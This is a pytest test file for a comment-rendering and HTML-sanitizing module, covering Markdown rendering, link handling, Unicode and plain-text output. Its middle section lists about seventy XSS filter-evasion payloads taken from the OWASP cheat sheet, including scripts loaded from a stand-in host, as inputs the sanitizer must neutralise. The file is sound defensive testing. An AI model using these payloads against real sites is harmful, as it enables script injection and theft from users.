"""Comment rendering: the Markdown subset readers get, and the HTML nobody gets through."""

import pytest

from engagement.rendering import (
    clean_html,
    html_to_text,
    render_comment,
    sanitize_html,
)
from tests.html_safety import hrefs, unsafe_parts

REL = 'rel="nofollow ugc noopener"'


# --- the Markdown subset ------------------------------------------------------------------------------------


def test_blank_lines_separate_paragraphs():
    assert render_comment("first\n\nsecond") == "<p>first</p>\n<p>second</p>"


def test_single_newline_becomes_a_line_break():
    assert render_comment("roses are red\nviolets are blue") == "<p>roses are red<br>\nviolets are blue</p>"


def test_emphasis_strong_and_inline_code_render():
    assert render_comment("*so* **very** `x < y`") == (
        "<p><em>so</em> <strong>very</strong> <code>x &lt; y</code></p>"
    )


def test_fenced_code_block_is_escaped_once_and_loses_its_language_class():
    assert render_comment("```python\nif a < b && c:\n    pass\n```") == (
        "<pre><code>if a &lt; b &amp;&amp; c:\n    pass\n</code></pre>"
    )


def test_indented_code_block_renders_as_pre():
    assert render_comment("look:\n\n    x = 1\n    y = 2") == (
        "<p>look:</p>\n<pre><code>x = 1\ny = 2\n</code></pre>"
    )


def test_blockquote_renders():
    assert render_comment("> you said\n\nI reply") == (
        "<blockquote>\n<p>you said</p>\n</blockquote>\n<p>I reply</p>"
    )


def test_bullet_list_renders():
    assert render_comment("- one\n- two") == "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"


def test_ordered_list_keeps_the_number_it_starts_at():
    assert render_comment("3. three\n4. four") == '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'


def test_markdown_link_gets_nofollow_ugc_noopener():
    assert render_comment('[the paper](https://example.org/a?b=1&c=2 "Title")') == (
        f'<p><a href="https://example.org/a?b=1&amp;c=2" title="Title" {REL}>the paper</a></p>'
    )


def test_mailto_link_is_kept():
    assert hrefs(render_comment("[write me](mailto:ed@example.org)")) == ["mailto:ed@example.org"]


def test_relative_link_loses_its_href_because_it_would_resolve_against_the_host_page():
    assert render_comment("[x](/admin)") == f"<p><a {REL}>x</a></p>"


def test_protocol_relative_link_loses_its_href():
    assert hrefs(render_comment("[x](//evil.example/)")) == [None]


def test_heading_stays_a_plain_paragraph():
    assert render_comment("# BREAKING\nnews") == "<p># BREAKING<br>\nnews</p>"


def test_setext_heading_stays_a_plain_paragraph():
    assert render_comment("Title\n=====") == "<p>Title<br>\n=====</p>"


def test_horizontal_rule_stays_text():
    assert render_comment("---") == "<p>---</p>"


def test_image_becomes_a_link_instead_of_loading_a_remote_pixel():
    assert render_comment("![cat](https://example.org/cat.png)") == (
        f'<p>!<a href="https://example.org/cat.png" {REL}>cat</a></p>'
    )


def test_table_syntax_stays_text():
    rendered = render_comment("| a | b |\n|---|---|\n| 1 | 2 |")

    assert "<table" not in rendered
    assert "| 1 | 2 |" in rendered


def test_bare_url_becomes_a_link():
    assert render_comment("see https://example.org/x?a=1&b=2.") == (
        f'<p>see <a href="https://example.org/x?a=1&amp;b=2" {REL}>https://example.org/x?a=1&amp;b=2</a>.</p>'
    )


def test_www_address_becomes_an_http_link():
    assert hrefs(render_comment("go to www.example.org now")) == ["http://www.example.org"]


def test_file_names_that_look_like_domains_stay_text():
    assert render_comment("edit README.md and main.py") == "<p>edit README.md and main.py</p>"


def test_url_inside_a_markdown_link_is_not_linked_twice():
    assert hrefs(render_comment("[https://example.org](https://example.net)")) == ["https://example.net"]


def test_bare_ftp_url_is_not_linked():
    assert "<a" not in render_comment("ftp://files.example.org/x")


def test_blank_comment_renders_to_empty_string():
    assert render_comment(" \n\t ") == ""


# --- raw HTML typed by a reader is shown, not run -----------------------------------------------------------


def test_script_tag_typed_by_a_reader_is_shown_as_text():
    assert render_comment("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_html_tags_typed_by_a_reader_are_shown_as_text():
    # The tags stay text; the URL typed inside them is linked, as any explicit URL in text is.
    assert render_comment('<b>hi</b> <a href="https://x.example">x</a>') == (
        '<p>&lt;b&gt;hi&lt;/b&gt; &lt;a href="<a href="https://x.example" rel="nofollow ugc noopener">'
        'https://x.example</a>"&gt;x&lt;/a&gt;</p>'
    )


def test_entities_typed_by_a_reader_keep_their_meaning():
    assert render_comment("AT&amp;T &lt;3 &copy;") == "<p>AT&amp;T &lt;3 ©</p>"


# --- OWASP filter-evasion cheat sheet, through both entry points --------------------------------------------

XSS_VECTORS = {
    "script tag": "<script>alert(1)</script>",
    "script src": "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "img javascript src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img unquoted javascript": "<IMG SRC=javascript:alert('XSS')>",
    "mixed case scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "tab inside scheme": '<a href="java\tscript:alert(1)">x</a>',
    "newline inside scheme": '<a href="java\nscript:alert(1)">x</a>',
    "carriage return inside scheme": '<a href="java\rscript:alert(1)">x</a>',
    "null inside scheme": '<a href="java\0script:alert(1)">x</a>',
    "tab entity inside scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline entity inside scheme": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "decimal entities": '<a href="' + "".join(f"&#{ord(c)};" for c in "javascript:") + 'alert(1)">x</a>',
    "padded decimal entities without semicolons": '<a href="'
    + "".join(f"&#{ord(c):07d}" for c in "javascript:")
    + 'alert(1)">x</a>',
    "hex entities": '<a href="' + "".join(f"&#x{ord(c):x};" for c in "javascript:") + 'alert(1)">x</a>',
    "hex entities without semicolons": '<a href="'
    + "".join(f"&#x{ord(c):X}" for c in "javascript:")
    + 'alert(1)">x</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "url encoded scheme": '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    "url encoded colon": '<a href="javascript%3Aalert(1)">x</a>',
    "leading spaces": '<a href="  javascript:alert(1)">x</a>',
    "leading control character": '<a href="&#14;  javascript:alert(1)">x</a>',
    "markdown link": "[x](javascript:alert(1))",
    "markdown link mixed case": "[x](JaVaScRiPt:alert(1))",
    "markdown link entity in scheme": "[x](java&#x73;cript:alert(1))",
    "markdown link entity first letter": "[x](&#106;avascript:alert(1))",
    "markdown link entity colon": "[x](javascript&#58;alert(1))",
    "markdown link angle destination": "[x](<javascript:alert(1)>)",
    "markdown link percent encoded": "[x](javascript%3Aalert(1))",
    "markdown reference link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "markdown reference link with title": '[x]\n\n[x]: JAVASCRIPT:alert(1) "t"',
    "autolink": "<javascript:alert(1)>",
    "autolink vbscript": "<vbscript:msgbox(1)>",
    "markdown vbscript": "[x](vbscript:msgbox(1))",
    "html vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "markdown data url": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "html data url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "bare data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "img onerror": "<img src=x onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "mathml href": '<math href="javascript:alert(1)">x</math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "allowed tag with handler": '<p onmouseover="alert(1)">hover</p>',
    "safe link with handler": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus": "<input onfocus=alert(1) autofocus>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style element": "<style>@import 'http://xss.example/xss.css';</style>",
    "style attribute": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    "base href": '<base href="javascript:alert(1)//">',
    "link stylesheet": '<link rel=stylesheet href="javascript:alert(1)">',
    "form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "double open bracket": "<<script>alert(1);//<</script>",
    "unclosed script": "<script src=http://xss.example/xss.js?< B >",
    "unclosed img": '<img src="javascript:alert(1)"',
    "hex entity brackets": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "named entity brackets": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "backtick attribute": "<img src=`javascript:alert(1)`>",
    "backtick code span": "`<script>alert(1)</script>`",
    "comment hiding script": "<!--<script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unknown element handler": "<xss onafterscriptexecute=alert(1)><script>1</script>",
}


@pytest.mark.parametrize("render", [render_comment, sanitize_html])
@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_filter_evasion_vector_yields_nothing_executable(render, vector):
    assert unsafe_parts(render(vector)) == []


@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_filter_evasion_vector_output_is_already_clean(vector):
    rendered = render_comment(vector)

    assert clean_html(rendered) == rendered


def test_evasion_vectors_are_shown_to_readers_as_text_not_dropped():
    assert "&lt;img src=x onerror=alert(1)&gt;" in render_comment("<img src=x onerror=alert(1)>")


# --- imported HTML ------------------------------------------------------------------------------------------


def test_sanitize_keeps_paragraphs_links_strong_and_blockquotes():
    imported = '<blockquote><p>quoted</p></blockquote><p><strong>Bold</strong> <a href="https://example.org/">site</a></p>'

    assert sanitize_html(imported) == (
        "<blockquote><p>quoted</p></blockquote>"
        f'<p><strong>Bold</strong> <a href="https://example.org/" {REL}>site</a></p>'
    )


def test_sanitize_strips_unknown_tags_but_keeps_their_text():
    assert sanitize_html('<div class="c"><font color=red>red</font> <span>and</span> <u>more</u></div>') == (
        "red and more"
    )


def test_sanitize_drops_script_and_style_content_entirely():
    assert sanitize_html("<p>hi<script>steal()</script><style>p{}</style></p>") == "<p>hi</p>"


def test_sanitize_drops_style_class_and_id_attributes():
    assert sanitize_html('<p style="color:red" class="x" id="y">hi</p>') == "<p>hi</p>"


def test_sanitize_replaces_the_source_rel_with_ours():
    assert sanitize_html('<a href="https://x.example" rel="follow me" target="_blank">x</a>') == (
        f'<a href="https://x.example" {REL}>x</a>'
    )


def test_sanitize_linkifies_bare_urls_in_imported_text():
    assert sanitize_html("<p>see https://example.org</p>") == (
        f'<p>see <a href="https://example.org" {REL}>https://example.org</a></p>'
    )


def test_sanitize_keeps_text_escaped():
    assert sanitize_html("<p>1 &lt; 2 &amp; 3</p>") == "<p>1 &lt; 2 &amp; 3</p>"


def test_sanitize_flattens_headings_tables_images_and_rules():
    imported = "<h1>t</h1><table><tr><td>c</td></tr></table><img src=https://x.example/a.png><hr><br>"

    assert sanitize_html(imported) == "tc<br>"


def test_sanitize_of_blank_html_is_empty():
    assert sanitize_html("  \n") == ""


def test_leading_newlines_in_imported_pre_do_not_shrink_on_every_clean():
    sanitized = sanitize_html("<pre>\n\n\n\ncode</pre>")

    assert clean_html(sanitized) == sanitized


def test_pre_tag_text_inside_an_attribute_is_left_alone_by_the_newline_fix():
    cleaned = clean_html('<a href="https://example.org" title="<pre>\nx">t</a>')

    assert clean_html(cleaned) == cleaned


# --- unicode ------------------------------------------------------------------------------------------------

UNICODE_TEXTS = {
    "arabic rtl": "مرحبا بالعالم",
    "hebrew with rtl mark": "\u200fשלום עולם",
    "emoji with modifiers": "👍🏽 🎉 👨‍👩‍👧",
    "cjk": "你好，世界。日本語のコメント",
    "combining marks": "Ѐ́ e\u0301",
}


@pytest.mark.parametrize("text", UNICODE_TEXTS.values(), ids=UNICODE_TEXTS.keys())
def test_unicode_survives_rendering(text):
    assert render_comment(text) == f"<p>{text}</p>"


@pytest.mark.parametrize("text", UNICODE_TEXTS.values(), ids=UNICODE_TEXTS.keys())
def test_unicode_survives_sanitizing(text):
    assert sanitize_html(f"<p>{text}</p>") == f"<p>{text}</p>"


# --- plain text for mails and search ------------------------------------------------------------------------


def test_plain_text_keeps_paragraphs_and_line_breaks():
    assert html_to_text(render_comment("one\ntwo\n\nthree")) == "one\ntwo\n\nthree"


def test_plain_text_unescapes_entities():
    assert html_to_text(render_comment("<b>AT&T</b> & co")) == "<b>AT&T</b> & co"


def test_plain_text_of_a_link_is_its_text():
    assert html_to_text(render_comment("[the paper](https://example.org)")) == "the paper"


def test_plain_text_collapses_whitespace_outside_code():
    assert html_to_text("<p>a   \n  b</p>\n\n\n<p>c</p>") == "a b\n\nc"


def test_plain_text_keeps_code_indentation():
    assert html_to_text(render_comment("```\ndef f():\n    return 1\n```")) == "def f():\n    return 1"


def test_plain_text_marks_list_items():
    assert html_to_text(render_comment("- a\n- b\n\n7. c\n8. d")) == "- a\n- b\n\n7. c\n8. d"


def test_plain_text_of_a_loose_list_keeps_each_item_on_its_marker_line():
    assert html_to_text(render_comment("- a\n\n- b")) == "- a\n\n- b"


def test_plain_text_of_empty_html_is_empty():
    assert html_to_text("") == ""
